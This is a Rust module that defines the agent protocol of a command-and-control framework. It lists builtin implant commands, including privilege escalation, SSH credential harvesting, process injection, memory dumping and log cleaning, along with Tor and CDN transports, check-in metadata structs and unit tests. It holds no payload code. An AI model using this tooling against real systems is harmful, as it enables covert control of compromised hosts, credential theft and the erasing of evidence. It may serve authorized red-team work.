pub mod registry;

use std::fmt;

use serde::{Deserialize, Serialize};

/// Builtin commands understood by agents. The leading `!` marks a command as
/// builtin, which demotes its result logging to debug.
pub const C2_CMD_PORT_FWD: &str = "!port_fwd";
pub const C2_CMD_SSHD: &str = "!sshd";
pub const C2_CMD_LPE: &str = "!lpe";
pub const C2_CMD_LS: &str = "!ls";
pub const C2_CMD_PS: &str = "!ps";
pub const C2_CMD_KILL: &str = "!kill";
pub const C2_CMD_STAT: &str = "!stat";
pub const C2_CMD_GET: &str = "!get";
pub const C2_CMD_PUT: &str = "!put";
pub const C2_CMD_SCREENSHOT: &str = "!screenshot";
pub const C2_CMD_MEMDUMP: &str = "!memdump";
pub const C2_CMD_SSH_HARVESTER: &str = "!ssh_harvester";
pub const C2_CMD_INJECT: &str = "!inject";
pub const C2_CMD_CLEAN_LOG: &str = "!clean_log";

pub fn is_builtin_cmd(cmd: &str) -> bool {
    cmd.starts_with('!')
}

/// Transport an agent reached us through
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "UPPERCASE")]
pub enum Transport {
    Http2,
    Kcp,
    Tor,
    Cdn,
}

impl Default for Transport {
    fn default() -> Self {
        Transport::Http2
    }
}

impl fmt::Display for Transport {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            Transport::Http2 => "HTTP2",
            Transport::Kcp => "KCP",
            Transport::Tor => "TOR",
            Transport::Cdn => "CDN",
        };
        write!(f, "{s}")
    }
}

/// Process info of the agent itself
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
#[serde(rename_all = "PascalCase", default)]
pub struct AgentProcess {
    pub cmdline: String,
    #[serde(rename = "PID")]
    pub pid: i64,
    pub parent: String,
    #[serde(rename = "PPID")]
    pub ppid: i64,
}

/// DMI product info
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
#[serde(rename_all = "PascalCase", default)]
pub struct Product {
    pub vendor: String,
    pub name: String,
    pub serial_number: String,
}

/// Metadata snapshot an agent announces on check-in. The tag is the stable
/// identity (hardware+kernel fingerprint); everything else is replaced on
/// every re-check-in.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
#[serde(rename_all = "PascalCase", default)]
pub struct Agent {
    pub tag: String,
    pub version: String,
    pub hostname: String,
    #[serde(rename = "OS")]
    pub os: String,
    pub kernel: String,
    pub arch: String,
    pub process: AgentProcess,
    pub user: String,
    pub has_root: bool,
    #[serde(rename = "CPU")]
    pub cpu: String,
    #[serde(rename = "GPU")]
    pub gpu: String,
    pub mem: String,
    pub hardware: String,
    pub container: String,
    #[serde(rename = "IPs")]
    pub ips: Vec<String>,
    #[serde(rename = "ARP")]
    pub arp: Vec<String>,
    pub transport: Transport,
    pub from: String,
    pub has_internet: bool,
    #[serde(rename = "NCSIEnabled")]
    pub ncsi_enabled: bool,
    pub exes: Vec<String>,
    pub product: Option<Product>,
}

/// `!stat` response
#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(rename_all = "PascalCase")]
pub struct FileStat {
    pub name: String,
    pub size: u64,
    pub checksum: String,
}

/// One entry of a `!ps` response
#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(rename_all = "PascalCase")]
pub struct ProcEntry {
    pub name: String,
    #[serde(rename = "PID")]
    pub pid: i64,
    #[serde(rename = "PPID")]
    pub ppid: i64,
    pub token: String,
}

/// One entry of a `!ls` response
#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(rename_all = "PascalCase")]
pub struct DirEntry {
    pub name: String,
    pub ftype: String,
    pub size: String,
    pub date: String,
    pub permission: String,
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn checkin_json_field_names() {
        let mut agent = Agent::default();
        agent.tag = "abcd-agent".to_string();
        agent.os = "Linux x86_64".to_string();
        agent.ips = vec!["10.0.0.2/24".to_string()];
        agent.ncsi_enabled = true;

        let json = serde_json::to_value(&agent).unwrap();
        assert_eq!(json["Tag"], "abcd-agent");
        assert_eq!(json["OS"], "Linux x86_64");
        assert_eq!(json["IPs"][0], "10.0.0.2/24");
        assert_eq!(json["NCSIEnabled"], true);
        assert_eq!(json["Transport"], "HTTP2");
    }

    #[test]
    fn checkin_json_parses_sparse_record() {
        let agent: Agent = serde_json::from_str(
            r#"{"Tag": "t1", "Hostname": "db01", "Process": {"Cmdline": "/bin/sh", "PID": 42}}"#,
        )
        .unwrap();
        assert_eq!(agent.tag, "t1");
        assert_eq!(agent.process.pid, 42);
        assert!(agent.product.is_none());
    }

    #[test]
    fn builtin_detection() {
        assert!(is_builtin_cmd(C2_CMD_PORT_FWD));
        assert!(is_builtin_cmd("!stat --path /etc/hostname"));
        assert!(!is_builtin_cmd("echo hi"));
    }
}
